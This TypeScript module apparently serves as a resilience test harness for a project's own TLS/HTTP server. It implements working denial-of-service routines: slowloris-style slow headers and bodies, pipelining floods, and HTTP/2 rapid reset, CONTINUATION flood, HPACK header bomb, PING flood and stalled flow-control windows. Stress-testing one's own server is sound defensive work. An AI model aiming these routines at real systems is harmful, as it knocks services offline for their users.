import type * as tls from 'node:tls';
import { serverName } from './credentials.ts';
import { connect } from './tls-clients.ts';

/** What clients do that mean harm, and what those do that are merely slow. */

export interface Assault {
  port: number;
  count: number;
}

const host = `Host: ${serverName}\r\n`;

/** Opens connections, 50 at a time; a server that has enough of them refuses the rest, or ends some. */
async function openAll({ port, count }: Assault, use: (socket: tls.TLSSocket) => void, alpn = 'http/1.1'): Promise<void> {
  for (let opened = 0; opened < count; opened += 50) {
    const batch = Math.min(50, count - opened);
    const attempts = Array.from({ length: batch }, async () => {
      const socket = await connect(port, { ALPNProtocols: [alpn] });
      socket.on('error', () => {});
      use(socket);
    });
    const refused = (await Promise.allSettled(attempts)).filter(({ status }) => status === 'rejected').length;
    if (refused > 0) console.error(`${refused} of ${batch} connections were refused, after ${opened}`);
  }
}

/** A byte every five seconds or so: all at once would be another assault. */
function drip(socket: tls.TLSSocket, first: string, byte: string): void {
  socket.write(first);
  const timer = setInterval(() => socket.write(byte), 4_000 + 2_000 * Math.random());
  socket.once('close', () => clearInterval(timer));
  socket.resume();
}

/** Writes as much as the server takes. */
function pour(socket: tls.TLSSocket, first: Buffer | string, piece: Buffer | string): void {
  const feed = (): void => {
    while (!socket.destroyed && socket.write(piece));
  };
  socket.write(first);
  socket.on('drain', feed);
  feed();
}

/** A frame of HTTP/2 (RFC 9113, 4.1). */
function frame(type: number, flags: number, stream: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

const [HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION] = [1, 3, 4, 6, 9];
const [END_STREAM, END_HEADERS] = [1, 4];
const preface = Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(SETTINGS, 0, 0)]);

/** An HPACK literal with a name of the static table, or with `name` 0x00 and its first byte the name's length (RFC 7541, 6.2.2). */
function literal(name: number, value: string): Buffer {
  return Buffer.concat([Buffer.from([name, value.length]), Buffer.from(value)]);
}

/** A GET over https. */
function get(target: string): Buffer {
  return Buffer.concat([Buffer.from([0x82, 0x87]), literal(0x04, target), literal(0x01, serverName)]);
}

const small = get('/small');

/** Sends what `frames` makes for each stream, in hundreds, on connections that are made again when the server ends them. */
function hasty({ port, count }: Assault, connections: number, frames: (stream: number) => Buffer, first: Buffer = Buffer.alloc(0)): Promise<void> {
  const open = (): Promise<void> =>
    openAll(
      { port, count: 1 },
      (socket) => {
        let stream = -1;
        socket.resume();
        socket.once('close', () => setTimeout(() => void open().catch(() => {}), 50 + 100 * Math.random()));
        socket.write(Buffer.concat([preface, first]));
        const again = (): void => {
          if (socket.destroyed) return;
          const batch = Array.from({ length: 100 }, () => frames((stream += 2)));
          if (socket.write(Buffer.concat(batch))) setTimeout(again, 10);
          else socket.once('drain', () => setTimeout(again, 10));
        };
        again();
      },
      'h2',
    );
  return Promise.all(Array.from({ length: Math.min(count, connections) }, open)).then(() => {});
}

export const assaults: Record<string, (assault: Assault) => Promise<void>> = {
  nothing: async () => {},
  idle: (assault) => openAll(assault, (socket) => socket.resume()),
  'slow-heads': (assault) => openAll(assault, (socket) => drip(socket, `GET / HTTP/1.1\r\n${host}X-Slow: `, 'x')),
  'slow-bodies': (assault) => openAll(assault, (socket) => drip(socket, `POST /sink HTTP/1.1\r\n${host}Content-Length: 1000000\r\n\r\n`, 'x')),
  'slow-readers': (assault) =>
    openAll({ ...assault, count: Math.ceil(assault.count / 10) }, (socket) => {
      socket.write(`GET /endless HTTP/1.1\r\n${host}\r\n`);
      socket.once('data', () => socket.pause());
    }),
  'deaf-application': (assault) =>
    openAll({ ...assault, count: Math.ceil(assault.count / 50) }, (socket) =>
      pour(socket, `POST /deaf HTTP/1.1\r\n${host}Content-Length: ${1024 ** 4}\r\n\r\n`, Buffer.alloc(65_536)),
    ),
  pipelining: (assault) =>
    openAll({ ...assault, count: Math.ceil(assault.count / 100) }, (socket) => {
      socket.pause();
      pour(socket, '', `GET /small HTTP/1.1\r\n${host}\r\n`.repeat(1_000));
    }),
  // CVE-2023-44487.
  'h2-rapid-reset': (assault) =>
    hasty(assault, assault.count / 100, (stream) =>
      Buffer.concat([frame(HEADERS, END_STREAM | END_HEADERS, stream, small), frame(RST_STREAM, 0, stream, Buffer.from([0, 0, 0, 8]))]),
    ),
  // CVE-2024-27983 and its kin: a head without an end.
  'h2-continuation': (assault) =>
    hasty(assault, assault.count / 100, () => frame(CONTINUATION, 0, 1, Buffer.alloc(1_000, literal(0x00, 'x'))), frame(HEADERS, END_STREAM, 1, small)),
  // A long field is put into the table once, and named with one byte a thousand times.
  'h2-header-bomb': (assault) =>
    hasty(
      assault,
      assault.count / 100,
      (stream) => frame(HEADERS, END_STREAM | END_HEADERS, stream + 2, Buffer.concat([small, Buffer.alloc(1_000, 0xbe)])),
      frame(HEADERS, END_STREAM | END_HEADERS, 1, Buffer.concat([small, Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]), Buffer.alloc(4_000, 'y')])),
    ),
  // CVE-2019-9512.
  'h2-pings': (assault) => hasty(assault, assault.count / 100, () => frame(PING, 0, 0, Buffer.alloc(8))),
  // Not more of them: what the application sends fills buffers of the kernel's, and beyond tcp_mem (tcp(7)) everybody's connections stall.
  'h2-shut-windows': (assault) =>
    openAll(
      { ...assault, count: Math.ceil(assault.count / 50) },
      (socket) => {
        socket.write(Buffer.concat([preface, ...[1, 3, 5, 7].map((stream) => frame(HEADERS, END_STREAM | END_HEADERS, stream, get('/endless')))]));
        socket.resume();
      },
      'h2',
    ),
};
